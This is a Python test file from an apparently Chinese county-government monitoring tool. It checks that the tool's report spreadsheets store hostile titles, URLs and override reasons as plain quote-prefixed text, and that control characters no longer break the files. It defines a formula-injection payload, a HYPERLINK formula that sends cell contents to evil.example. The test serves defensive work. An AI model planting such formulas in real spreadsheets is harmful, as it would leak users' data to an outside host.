"""Titles, URLs and override reasons as hostile imports and users write them, through `govwatch report`:
no cell of the annexes is a formula, and one control character no longer stops the annexes (nor the
.docx). The web download writes the same files with the same code (services.report.write_report)."""

from datetime import UTC, datetime

from docx import Document
from openpyxl import load_workbook
from sqlalchemy import update

from govwatch.domain.calendar import Month
from govwatch.domain.grading.reasons import GradeOverride
from govwatch.services.overrides import record_override
from govwatch.store.counties import load_stored_county
from govwatch.store.tables import PostRow
from tests.reports.conftest import write_demo_report

INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def text_cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def test_hostile_titles_urls_and_reasons_are_text_in_every_annex_cell(demo_copy, tmp_path):
    with demo_copy.transaction() as session:
        # As if stored before posts were cleaned on arrival, or typed elsewhere: every post's title and URL
        # (collected again now, so the report grades the month again before it writes the files).
        session.execute(update(PostRow).values(title=INJECTED + "\x0b标题\x01", url="=1+1",
                                               collected_at=datetime.now(UTC)))
        record_override(session, load_stored_county(session), Month(2023, 6), GradeOverride(
            "news", "县住建局", "合格", "@SUM(1+1)\x07 复核后调整", "审核员", datetime(2023, 7, 10, tzinfo=UTC)))
    files = write_demo_report(demo_copy, tmp_path)
    book = load_workbook(files.annexes)
    cells = text_cells(book)
    assert all(cell.data_type == "s" for cell in cells)
    hostile = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@"))]
    assert {cell.value for cell in hostile} >= {INJECTED + "标题", "=1+1", "@SUM(1+1) 复核后调整"}
    assert all(cell.quotePrefix for cell in hostile)
    evidence = book["依据"]
    assert any(cell.value == INJECTED + "标题" for cell in evidence["D"])
    assert files.notice.is_file() and Document(str(files.notice)).paragraphs
